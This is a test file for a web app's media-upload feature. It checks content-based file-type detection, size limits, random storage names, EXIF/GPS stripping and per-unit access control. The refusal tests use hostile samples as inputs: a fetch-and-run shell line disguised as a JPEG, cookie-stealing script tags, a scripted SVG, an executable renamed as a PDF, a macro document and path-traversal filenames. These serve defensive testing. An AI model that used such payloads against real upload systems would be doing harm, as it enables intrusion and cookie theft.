import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import ExcelJS from 'exceljs';
import exifr from 'exifr';
import sharp from 'sharp';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeDb, startTestApp, testDialect, type TestApp } from '../support/harness';
import { buildUnit, campaignCast, loginAs } from '../support/factories';
import type { Answer, Client } from '../support/client';
import { auditRows, expectError, expectFieldError, unitByCode } from '../support/api';
import { zip } from '../support/files';

const MB = 1024 * 1024;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

/**
 * A camera photo as phones send it: 2000×1000 pixels stored sideways (EXIF orientation 6, so it
 * shows as 1000×2000), with the make, model and the place it was taken (GPS) in its EXIF.
 */
const gpsJpeg = () => sharp({ create: { width: 2000, height: 1000, channels: 3, background: '#2a7f62' } })
  .jpeg({ quality: 85 })
  .withExif({
    IFD0: { Make: 'SafeCam', Model: 'GPS-1' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '25/1 2/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '102/1 42/1 0/1' },
  })
  .withMetadata({ orientation: 6 })
  .toBuffer();

const smallPng = () => sharp({ create: { width: 40, height: 30, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } }).png().toBuffer();

const docx = () => zip({
  '[Content_Types].xml': CONTENT_TYPES,
  '_rels/.rels': '<Relationships/>',
  'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
});

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

const sha256 = (b: Buffer) => crypto.createHash('sha256').update(b).digest('hex');

/** What a metadata reader finds in a file: EXIF as sharp sees it, and everything exifr can parse. */
async function metadataOf(data: Buffer) {
  const m = await sharp(data).metadata();
  return { exif: m.exif, icc: m.icc, xmp: m.xmp, parsed: await exifr.parse(data, true), gps: await exifr.gps(data) };
}

describeDb('media library: uploads checked by content, limited by kind, stored under random names, stripped of metadata', () => {
  let t: TestApp;
  let admin: Client;
  let leader: Client;
  let wuhua: Client;
  let panlong: Client;
  let base: string;
  let mediaDir: string;
  let photo: Buffer;

  /** Every file under the media folder (temp files included), relative to it. */
  const filesOnDisk = () => (fs.existsSync(mediaDir)
    ? (fs.readdirSync(mediaDir, { recursive: true }) as string[]).filter((f) => fs.statSync(path.join(mediaDir, f)).isFile()).sort()
    : []);
  const rowCount = async () => Number((await t.db.selectFrom('media_items').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
  const auditCount = async () => (await auditRows(t)).length;
  const snapshot = async () => ({ files: filesOnDisk(), rows: await rowCount(), audit: await auditCount() });

  /** A refusal leaves nothing behind: no file (not even a temp), no row, no audit record. */
  async function expectNothingWritten(before: Awaited<ReturnType<typeof snapshot>>) {
    expect(await snapshot()).toEqual(before);
  }

  const upload = (c: Client, data: Buffer, name: string, fields: Record<string, string> = {}, type = 'application/octet-stream') =>
    c.uploadForm(base, fields, data, name, type);

  async function uploaded(c: Client, data: Buffer, name: string, fields: Record<string, string> = {}) {
    const r = await upload(c, data, name, fields);
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    return r.body as { id: number; kind: string; mime: string; thumbUrl: string | null; displayUrl: string | null; originalUrl: string | null; [k: string]: unknown };
  }

  const binary = (r: Answer) => r.raw.rawPayload;

  beforeAll(async () => {
    // Small limits, so that "too large" is a few megabytes in a test, not hundreds.
    t = await startTestApp({}, { MEDIA_MAX_IMAGE_MB: '1', MEDIA_MAX_DOCUMENT_MB: '1', MEDIA_MAX_VIDEO_MB: '2' });
    ({ admin, leader, wuhua, panlong } = await campaignCast(t));
    base = `/api/campaigns/${t.campaignId}/media`;
    mediaDir = t.config.media.dir;
    photo = await gpsJpeg();
  });
  afterAll(async () => t?.close());

  it('stores a camera photo: 201, kind and size judged from its content, the upright size, files under random names', async () => {
    expect((await exifr.gps(photo))?.latitude).toBeCloseTo(25.0417, 3);
    const unit = await unitByCode(t, '530102');
    const item = await uploaded(wuhua, photo, '现场照片.jpg', { category: 'study' });
    expect(item).toMatchObject({
      kind: 'image', mime: 'image/jpeg', size: photo.length, sha256: sha256(photo), width: 1000, height: 2000,
      category: 'study', takenOn: '2022-05-20', featured: false, originalName: '现场照片.jpg',
      unit: { id: unit.id, code: '530102' }, uploadedBy: { username: expect.any(String) },
      thumbUrl: `/api/media/${item.id}/thumb`, displayUrl: `/api/media/${item.id}/display`,
      // A reporter is not offered the original: it carries the GPS position.
      originalUrl: null,
    });
    const row = await t.db.selectFrom('media_items').selectAll().where('id', '=', item.id).executeTakeFirstOrThrow();
    expect(row.storage_key).toMatch(/^[0-9a-f]{32}\.jpg$/);
    expect(row.thumb_key).toMatch(/^[0-9a-f]{32}-thumb\.jpg$/);
    expect(filesOnDisk()).toEqual(expect.arrayContaining([
      path.join('originals', row.storage_key), path.join('derived', row.thumb_key!), path.join('derived', row.display_key!),
    ]));
    expect(filesOnDisk().some((f) => path.basename(f).startsWith('.tmp-'))).toBe(false);
    const a = await auditRows(t, { action: 'media.upload', entityId: item.id });
    expect(a).toHaveLength(1);
    expect(a[0]!.after).toMatchObject({ unitId: unit.id, kind: 'image', sha256: sha256(photo), originalName: '现场照片.jpg' });
  });

  it('serves a thumbnail and a display copy with no EXIF and no GPS, upright, as JPEG with nosniff', async () => {
    const item = await uploaded(wuhua, photo, 'gps.jpg');
    for (const [variant, size] of [['thumb', [160, 320]], ['display', [800, 1600]]] as const) {
      const r = await wuhua.get(`/api/media/${item.id}/${variant}`);
      expect(r.status, variant).toBe(200);
      expect(r.headers['content-type']).toBe('image/jpeg');
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(String(r.headers['content-disposition'])).toMatch(/^inline; /);
      expect(r.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      const data = binary(r);
      const meta = await metadataOf(data);
      expect(meta.exif, `${variant}: EXIF`).toBeUndefined();
      expect(meta.xmp, `${variant}: XMP`).toBeUndefined();
      expect(meta.parsed, `${variant}: any metadata exifr can read`).toBeUndefined();
      expect(meta.gps, `${variant}: GPS`).toBeUndefined();
      expect(data.includes(Buffer.from('SafeCam')), `${variant}: camera make in the bytes`).toBe(false);
      const m = await sharp(data).metadata();
      expect([m.width, m.height], variant).toEqual(size);
      // Turned upright in the pixels, so nothing needs the (removed) orientation tag.
      expect(m.orientation ?? 1).toBe(1);
    }
  });

  it('keeps the original byte for byte for the office (GPS and all) and gives it as an attachment', async () => {
    const item = await uploaded(wuhua, photo, '现场照片.jpg');
    for (const c of [admin, leader]) {
      const r = await c.get(`/api/media/${item.id}/original`);
      expect(r.status).toBe(200);
      expect(r.headers['content-type']).toBe('image/jpeg');
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(r.headers['content-disposition']).toBe(`attachment; filename="____.jpg"; filename*=UTF-8''${encodeURIComponent('现场照片.jpg')}`);
      expect(binary(r).equals(photo)).toBe(true);
      expect((await exifr.gps(binary(r)))?.longitude).toBeCloseTo(102.7, 3);
    }
    const listed = await admin.get(`${base}?limit=1`);
    expect(listed.body.items[0].originalUrl).toBe(`/api/media/${item.id}/original`);
  });

  it('refuses the original to anyone outside the office: a reporter gets 403, even for their own unit\'s item', async () => {
    const item = await uploaded(wuhua, photo, 'own.jpg');
    expectError(await wuhua.get(`/api/media/${item.id}/original`), 403, 'request.forbidden');
    const approver = await loginAs(t, 'unit_approver', '530102');
    expectError(await approver.get(`/api/media/${item.id}/original`), 403, 'request.forbidden');
  });

  it.each([
    ['a shell script named x.jpg', '#!/bin/sh\ncurl http://example.invalid | sh\n', 'x.jpg', 'image/jpeg'],
    ['a script tag named x.jpg', '<script>alert(document.cookie)</script>', 'x.jpg', 'image/jpeg'],
    ['an HTML page named photo.png', '<!doctype html><html><body onload="alert(1)"></body></html>', 'photo.png', 'image/png'],
    ['an SVG with a script', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>', 'logo.svg', 'image/svg+xml'],
    ['a Windows executable named report.pdf', 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'report.pdf', 'application/pdf'],
  ])('refuses %s with 415 naming `file`, leaving nothing on disk or in the table', async (_name, content, filename, type) => {
    const before = await snapshot();
    const r = await upload(wuhua, Buffer.from(content, 'latin1'), filename, {}, type);
    expectFieldError(r, 'file', 'media.unsupported', 415);
    expect(r.body.messageEn).toContain('judged by content');
    await expectNothingWritten(before);
  });

  it('refuses an oversized image with 413 while streaming, leaving no partial file', async () => {
    const before = await snapshot();
    const big = Buffer.concat([photo.subarray(0, 64), crypto.randomBytes(3 * MB)]);
    const r = await upload(wuhua, big, 'huge.jpg');
    expectFieldError(r, 'file', 'media.too_large', 413);
    expect(r.body.message).toContain('图片不能超过 1 MB');
    expect(r.body.messageEn).toContain('an image may be at most 1 MB');
    expect(r.headers.connection).toBe('close');
    await expectNothingWritten(before);
  });

  it('applies each kind\'s own limit: a 1.5 MB video is fine where images stop at 1 MB, a 3 MB one is not; a 1.5 MB PDF is refused', async () => {
    const mp4 = (size: number) => Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom', 'latin1'), crypto.randomBytes(size)]);
    const video = await uploaded(wuhua, mp4(1.5 * MB), 'clip.mp4');
    expect(video).toMatchObject({ kind: 'video', mime: 'video/mp4', thumbUrl: null, displayUrl: null });
    const before = await snapshot();
    expectFieldError(await upload(wuhua, mp4(3 * MB), 'long.mp4'), 'file', 'media.too_large', 413);
    const pdf = Buffer.concat([PDF, crypto.randomBytes(1.5 * MB)]);
    const r = await upload(wuhua, pdf, 'big.pdf');
    expectFieldError(r, 'file', 'media.too_large', 413);
    expect(r.body.messageEn).toContain('a document may be at most 1 MB');
    await expectNothingWritten(before);
  });

  it('stops reading an oversized upload on a real connection: the answer comes before the body is sent, and the disk stays clean', async () => {
    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
    const before = await snapshot();
    const total = 64 * MB;
    const chunk = crypto.randomBytes(256 * 1024);
    const boundary = '----safemonthbig';
    const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
    const answer = await new Promise<{ status: number; sent: number; body: string }>((resolve, reject) => {
      let sent = 0;
      let answered = false;
      const req = http.request(`${address}${base}`, {
        method: 'POST',
        headers: {
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'content-length': String(head.length + 64 + total + boundary.length + 8),
          cookie: `sm_session=${wuhua.cookie('sm_session')}; sm_csrf=${wuhua.csrf}`,
          'x-csrf-token': wuhua.csrf!,
        },
      }, (res) => {
        answered = true;
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => { body += d; });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, sent, body }));
      });
      // The server may close the socket while this side is still writing; the answer is what counts.
      req.on('error', (e) => (answered ? undefined : reject(e)));
      req.write(head);
      req.write(photo.subarray(0, 64));
      const pump = () => {
        while (sent < total && !req.destroyed) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
        if (!req.destroyed) req.end(`\r\n--${boundary}--\r\n`);
      };
      pump();
    });
    expect(answer.status, answer.body).toBe(413);
    expect(JSON.parse(answer.body)).toMatchObject({ code: 'media.too_large', fields: [{ field: 'file' }] });
    expect(answer.sent).toBeLessThan(total);
    await expectNothingWritten(before);
  });

  it('accepts a PDF, a Word document and an Excel workbook as documents, with no derivatives', async () => {
    const pdf = await uploaded(wuhua, PDF, '总结.pdf');
    expect(pdf).toMatchObject({ kind: 'document', mime: 'application/pdf', thumbUrl: null, displayUrl: null, width: null, height: null });
    const word = await uploaded(wuhua, await docx(), 'report.docx');
    expect(word).toMatchObject({ kind: 'document', mime: DOCX });
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('统计').addRow(['a', 1]);
    const sheet = await uploaded(wuhua, Buffer.from(await wb.xlsx.writeBuffer()), '统计.xlsx');
    expect(sheet).toMatchObject({ kind: 'document', mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });

    expectError(await wuhua.get(`/api/media/${pdf.id}/thumb`), 404, 'request.not_found');
    const r = await admin.get(`/api/media/${word.id}/original`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe(DOCX);
    expect(String(r.headers['content-disposition'])).toMatch(/^attachment; filename="report\.docx"/);
    // A document named like something else is downloaded under the extension of what it is.
    const misnamed = await uploaded(wuhua, PDF, 'notes.txt');
    const d = await admin.get(`/api/media/${misnamed.id}/original`);
    expect(String(d.headers['content-disposition'])).toMatch(/filename="notes\.txt\.pdf"/);
  });

  it('refuses a zip renamed to .docx, a zip with [Content_Types].xml but no document, and a macro document', async () => {
    const before = await snapshot();
    const plain = await zip({ 'readme.txt': 'hello', 'install.sh': '#!/bin/sh\n' });
    expectFieldError(await upload(wuhua, plain, 'report.docx', {}, DOCX), 'file', 'media.unsupported', 415);
    const hollow = await zip({ '[Content_Types].xml': CONTENT_TYPES, 'payload.exe': 'MZ' });
    expectFieldError(await upload(wuhua, hollow, 'report.docx'), 'file', 'media.unsupported', 415);
    const macro = await zip({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': 'VBA' });
    expectFieldError(await upload(wuhua, macro, 'report.docm'), 'file', 'media.macros', 415);
    await expectNothingWritten(before);
  });

  it('refuses a damaged image, an empty file, and a form without a file, each naming `file`', async () => {
    const before = await snapshot();
    const damaged = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), crypto.randomBytes(2000)]);
    expectFieldError(await upload(wuhua, damaged, 'broken.jpg'), 'file', 'media.image_unreadable', 400);
    expectFieldError(await upload(wuhua, Buffer.alloc(0), 'empty.jpg'), 'file', 'media.empty', 400);
    expectFieldError(await wuhua.post(base, { file: 'not a file' }), 'file', 'media.file_required', 400);
    await expectNothingWritten(before);
  });

  it('refuses bad form fields after the file arrived, removing the file: unknown category, impossible date, unknown field', async () => {
    const before = await snapshot();
    expectFieldError(await upload(wuhua, photo, 'a.jpg', { category: 'no_such_category' }), 'category', 'media.category_unknown');
    const date = await upload(wuhua, photo, 'a.jpg', { takenOn: '2022-02-30' });
    expectFieldError(date, 'takenOn');
    expect(date.body.fields[0].messageEn).toContain('YYYY-MM-DD');
    expectFieldError(await upload(wuhua, photo, 'a.jpg', { path: '/etc' }), 'path', 'media.unknown_field');
    expectFieldError(await upload(wuhua, photo, 'a.jpg', { unitId: 'abc' }), 'unitId');
    await expectNothingWritten(before);
  });

  it('leaves no file when the database refuses the row, whether at the insert or at the commit', async () => {
    // Failures the code cannot cause on purpose, made by the database itself: a trigger refusing one name.
    if (testDialect === 'sqlite') {
      await sql`CREATE TRIGGER media_refuse BEFORE INSERT ON media_items WHEN NEW.original_name = 'refused-at-insert.jpg'
        BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`.execute(t.db);
    } else {
      await sql`CREATE FUNCTION media_refuse() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN IF NEW.original_name LIKE 'refused-at-%' THEN RAISE EXCEPTION 'refused by the test'; END IF; RETURN NEW; END $$`.execute(t.db);
      await sql`CREATE TRIGGER media_refuse_insert BEFORE INSERT ON media_items FOR EACH ROW
        WHEN (NEW.original_name = 'refused-at-insert.jpg') EXECUTE FUNCTION media_refuse()`.execute(t.db);
      // A deferred constraint trigger runs at COMMIT: after the files were renamed into place.
      await sql`CREATE CONSTRAINT TRIGGER media_refuse_commit AFTER INSERT ON media_items DEFERRABLE INITIALLY DEFERRED
        FOR EACH ROW WHEN (NEW.original_name = 'refused-at-commit.jpg') EXECUTE FUNCTION media_refuse()`.execute(t.db);
    }
    const before = await snapshot();
    expectError(await upload(wuhua, photo, 'refused-at-insert.jpg'), 500, 'request.internal');
    await expectNothingWritten(before);
    if (testDialect === 'postgres') {
      expectError(await upload(wuhua, photo, 'refused-at-commit.jpg'), 500, 'request.internal');
      await expectNothingWritten(before);
    }
  });

  it('stores under its own name whatever the sender calls the file: a traversal in the name changes nothing', async () => {
    const outside = [path.resolve(mediaDir, '../../etc/passwd.jpg'), path.resolve(mediaDir, '../etc/passwd.jpg'), path.resolve(mediaDir, 'etc/passwd.jpg')];
    const before = filesOnDisk();
    const a = await uploaded(wuhua, photo, '../../etc/passwd.jpg');
    const b = await uploaded(wuhua, photo, '..\\..\\windows\\evil.jpg');
    const c = await uploaded(wuhua, photo, '\u202egpj.exe');
    expect(a.originalName).toBe('passwd.jpg');
    expect(b.originalName).toBe('evil.jpg');
    expect(c.originalName).toBe('gpj.exe');
    for (const f of outside) expect(fs.existsSync(f), f).toBe(false);
    const added = filesOnDisk().filter((f) => !before.includes(f));
    expect(added).toHaveLength(9);
    for (const f of added) expect(f).toMatch(/^(originals\/[0-9a-f]{32}\.jpg|derived\/[0-9a-f]{32}-(thumb|display)\.jpg)$/);
  });

  it('keeps a county inside its own subtree: 盘龙区 sees no 五华区 item (404), cannot list 五华区, cannot upload for it', async () => {
    const item = await uploaded(wuhua, await smallPng(), 'png.png');
    const wuhuaUnit = await unitByCode(t, '530102');
    for (const url of [`/api/media/${item.id}`, `/api/media/${item.id}/thumb`, `/api/media/${item.id}/display`]) {
      expectError(await panlong.get(url), 404, 'request.not_found');
    }
    expectError(await panlong.get(`${base}?unitId=${wuhuaUnit.id}`), 404, 'request.not_found');
    const own = await panlong.get(base);
    expect(own.status).toBe(200);
    expect(own.body.items.map((i: { id: number }) => i.id)).not.toContain(item.id);
    expect(own.body.items.every((i: { unit: { code: string } }) => i.unit.code !== '530102')).toBe(true);

    const before = await snapshot();
    expectError(await upload(panlong, photo, 'x.jpg', { unitId: String(wuhuaUnit.id) }), 404, 'request.not_found');
    expectError(await upload(leader, photo, 'x.jpg'), 403, 'request.forbidden');
    await expectNothingWritten(before);

    // The item's own county, and the office, see it.
    expect((await wuhua.get(`/api/media/${item.id}/thumb`)).status).toBe(200);
    expect((await leader.get(`/api/media/${item.id}`)).status).toBe(200);
  });

  it('lets a county upload for its township, and the gallery filters by unit subtree, category, kind, date and featured, a page at a time', async () => {
    const township = await buildUnit(t, { parentCode: '530103' });
    const panlongUnit = await unitByCode(t, '530103');
    const onTownship = await uploaded(panlong, photo, 't.jpg', { unitId: String(township.id), category: 'law', takenOn: '2022-06-10' });
    await uploaded(panlong, await smallPng(), 'p.png', { category: 'launch', takenOn: '2022-06-02' });
    await uploaded(panlong, PDF, 'p.pdf', { takenOn: '2022-06-20' });

    const q = async (c: Client, query: string) => {
      const r = await c.get(`${base}?${query}`);
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      return r.body as { items: { id: number; unit: { id: number }; takenOn: string }[]; total: number; limit: number; offset: number };
    };
    expect((await q(panlong, `unitId=${panlongUnit.id}`)).total).toBe(3);
    expect((await q(panlong, `unitId=${township.id}`)).items.map((i) => i.id)).toEqual([onTownship.id]);
    expect((await q(admin, `unitId=${panlongUnit.id}&category=law`)).items.map((i) => i.id)).toEqual([onTownship.id]);
    expect((await q(admin, `unitId=${panlongUnit.id}&kind=document`)).total).toBe(1);
    expect((await q(admin, `unitId=${panlongUnit.id}&from=2022-06-02&to=2022-06-10`)).total).toBe(2);
    const page = await q(admin, `unitId=${panlongUnit.id}&limit=2&offset=0`);
    expect(page).toMatchObject({ total: 3, limit: 2, offset: 0 });
    expect(page.items.map((i) => i.takenOn)).toEqual(['2022-06-20', '2022-06-10']);
    expect((await q(admin, `unitId=${panlongUnit.id}&limit=2&offset=2`)).items.map((i) => i.takenOn)).toEqual(['2022-06-02']);
    // The township's own reporter sees only the township's item.
    const townshipReporter = await loginAs(t, 'unit_reporter', township.code);
    expect((await q(townshipReporter, '')).items.map((i) => i.id)).toEqual([onTownship.id]);

    expectFieldError(await admin.get(`${base}?from=2022-13-01`), 'query.from');
    expectFieldError(await admin.get(`${base}?kind=script`), 'query.kind');
    expectFieldError(await admin.get(`${base}?limit=1000`), 'query.limit');
    expectError(await admin.get('/api/campaigns/987654/media'), 404, 'request.not_found');
  });

  it('lets only the city office mark items featured; a featured item cannot be deleted by the unit', async () => {
    const item = await uploaded(wuhua, photo, 'feature.jpg');
    const url = `/api/media/${item.id}`;
    expectError(await wuhua.patch(url, { featured: true }), 403, 'request.forbidden');
    expectError(await leader.patch(url, { featured: true }), 403, 'request.forbidden');
    expectFieldError(await admin.patch(url, { featured: 'yes' }), 'featured');
    const r = await admin.patch(url, { featured: true });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.featured).toBe(true);
    const a = await auditRows(t, { action: 'media.feature', entityId: item.id });
    expect(a.map((x) => [x.before, x.after])).toEqual([[{ featured: false }, { featured: true }]]);

    const featured = await leader.get(`${base}?featured=true`);
    expect(featured.body.items.map((i: { id: number }) => i.id)).toEqual([item.id]);
    expect((await wuhua.get(`${base}?featured=false`)).body.items.map((i: { id: number }) => i.id)).not.toContain(item.id);

    const before = await snapshot();
    expectError(await wuhua.delete(url), 409, 'media.featured_locked');
    await expectNothingWritten(before);
    expect((await admin.patch(url, { featured: false })).body.featured).toBe(false);
    expect((await wuhua.delete(url)).status).toBe(204);
  });

  it('deletes the row, its audit record and then its files; another county cannot delete (404), the leader cannot (403)', async () => {
    const item = await uploaded(wuhua, photo, 'delete-me.jpg');
    const row = await t.db.selectFrom('media_items').selectAll().where('id', '=', item.id).executeTakeFirstOrThrow();
    const paths = [path.join(mediaDir, 'originals', row.storage_key), path.join(mediaDir, 'derived', row.thumb_key!), path.join(mediaDir, 'derived', row.display_key!)];
    for (const p of paths) expect(fs.existsSync(p)).toBe(true);

    expectError(await panlong.delete(`/api/media/${item.id}`), 404, 'request.not_found');
    expectError(await leader.delete(`/api/media/${item.id}`), 403, 'request.forbidden');
    expect((await wuhua.delete(`/api/media/${item.id}`)).status).toBe(204);

    for (const p of paths) expect(fs.existsSync(p), p).toBe(false);
    expect(await t.db.selectFrom('media_items').selectAll().where('id', '=', item.id).executeTakeFirst()).toBeUndefined();
    const a = await auditRows(t, { action: 'media.delete', entityId: item.id });
    expect(a[0]!.before).toMatchObject({ sha256: sha256(photo), storageKey: row.storage_key });
    expectError(await wuhua.get(`/api/media/${item.id}/thumb`), 404, 'request.not_found');
    expectError(await wuhua.delete(`/api/media/${item.id}`), 404, 'request.not_found');

    // The office deletes anything, featured or not.
    const other = await uploaded(panlong, await smallPng(), 'o.png');
    await admin.patch(`/api/media/${other.id}`, { featured: true });
    expect((await admin.delete(`/api/media/${other.id}`)).status).toBe(204);
  });
});
